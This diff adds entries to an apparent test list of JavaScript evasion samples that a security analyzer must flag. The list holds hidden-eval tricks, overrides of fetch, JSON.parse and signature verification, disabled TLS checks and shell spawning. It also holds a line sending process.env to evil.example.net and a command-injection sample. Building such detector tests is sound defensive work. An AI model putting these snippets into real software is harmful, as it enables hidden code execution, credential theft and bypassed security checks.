@@ -3,6 +3,19 @@ const keys = Array.from({ length: 220 }, (_, at) => `k${at}:1`).join(",");
 
 /** Ways to hide harm that have passed some analysis unseen; each must at least be warned of. */
 export const javaScriptEvasions: string[] = [
+  `export const f=(x)=>(()=>{}).constructor("return "+x)()`,
+  `export const f=(x)=>[].filter.constructor(x)()`,
+  `export const f=(x)=>setTimeout.constructor(x)()`,
+  `const Maker=Object.getPrototypeOf(async function(){}).constructor; export const f=(x)=>new Maker("a",x)`,
+  `const [a,...b]=["e","v","a","l"]; export const f=(x)=>globalThis[[a,...b].join("")](x)`,
+  `const n="lave".split("").reverse().join(""); export const f=(x)=>globalThis[n](x)`,
+  `Object.assign(globalThis, { fetch: (...a) => spy(a) })`,
+  `JSON.parse = (text) => spy(text)`,
+  `Object.defineProperty(crypto.subtle, "verify", { value: async () => true })`,
+  `Reflect.set(globalThis, "fetch", async () => spy())`,
+  `import https from "https"; export const a=new https.Agent({ rejectUnauthorized: !1 })`,
+  `export const f=(o,p,v)=>{let n=o; const ks=p.split("."); const l=ks.pop(); for (const k of ks) n = n[k] ??= {}; n[l]=v}`,
+  `export const f=(c)=>new Deno.Command("sh",{args:["-c",c]}).spawn()`,
   `eval("require('child_process').execSync('id > /tmp/x')")`,
   `new Function("fetch('https://evil.example.net?'+JSON.stringify(process.env))")()`,
   `import cp from "child_process"; export const f=(req)=>cp.exec([${words},req.query.x].join(" "))`,
